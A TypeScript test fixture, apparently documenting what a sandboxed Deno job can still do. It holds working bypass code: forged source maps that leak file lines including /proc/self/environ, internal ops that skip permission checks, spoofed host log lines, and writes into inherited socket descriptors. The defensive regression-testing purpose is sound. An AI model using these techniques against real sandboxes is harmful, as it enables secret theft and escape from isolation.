// What a job can still do: SECURITY.md lists it, and each has a test that it is no more than that.
import fs from "node:fs";
import { type Attacks, core, dataUrl, ready, say, sleep } from "./scene.ts";

export const possible: Attacks = {
  "a line of a file": ({ outside }) => sayLines(`${outside}/secret.txt`),
  "lines of the first environment": async () => {
    await sayLines("/proc/self/environ");
    await sayLines("/proc/1/environ");
  },
  "a JSON file": async ({ outside }) => {
    const url = `file://${outside}/secret.json`;
    say((await import(url, { with: { type: "json" } })).default);
  },
  "a variable of the environment": () => say(core().ops.op_get_env_no_permission_check("HOME")),
  "a Unix socket": async ({ staging }) => {
    const listener = Deno.listen({ transport: "unix", path: `${staging}/socket` });
    ready();
    const connection = await listener.accept();
    await connection.write(new TextEncoder().encode("hello"));
    connection.close();
    listener.close();
  },
  "a UDP socket": async () => {
    const { ops } = core();
    const address = { hostname: "::", port: 0 };
    const endpoint = ops.op_quic_endpoint_create(address, false, null, null, null);
    say(`PORT ${ops.op_quic_endpoint_get_addr(endpoint).port}`);
    await sleep(1e9);
  },
  "a line like the host's": () => {
    const line = new TextEncoder().encode(
      "2026-01-01T00:00:00.000Z INFO    Wrote /nowhere (1 byte)\n",
    );
    Deno.stdout.writeSync(line);
    fs.writeSync(2, line);
  },
  "the mode of the results": ({ input }) => fs.fchmodSync(fs.openSync(input, "r"), 0o640),
  "no ear for signals": async () => {
    const { ops, close } = core();
    // What wakes the host's event loop.
    close(ops.op_node_file_from_fd(4));
    ready();
    await sleep(1e9);
  },
  "every open socket": async () => {
    const { ops, write } = core();
    for (let descriptor = 3; descriptor < 64; descriptor++) {
      try {
        const socket = ops.op_net_unix_stream_from_fd(descriptor);
        await Promise.race([write(socket, new TextEncoder().encode("SPILLED\r\n\r\n")), sleep(50)]);
      } catch {
        // It is no socket, or can't be written to.
      }
    }
    ready();
    await sleep(1e9);
  },
};

/** Says the first lines of a file, as a forged source map makes Deno show them. */
async function sayLines(path: string): Promise<void> {
  for (let line = 0; line < 4; line++) {
    const map = {
      version: 3,
      sources: [`file://${path}`],
      names: [],
      // Of the first place: column 0, source 0, this line, column 0, each as a base64 digit of twice that.
      mappings: `AA${"ACEG"[line]}A`,
    };
    const comment = `//# sourceMappingURL=data:application/json;base64,${
      btoa(JSON.stringify(map))
    }`;
    const module = await import(
      dataUrl(`export const fail = () => { throw new Error() };\n${comment}`)
    );
    try {
      module.fail();
    } catch (error) {
      say(JSON.stringify(core().destructureError(error).sourceLine));
    }
  }
}
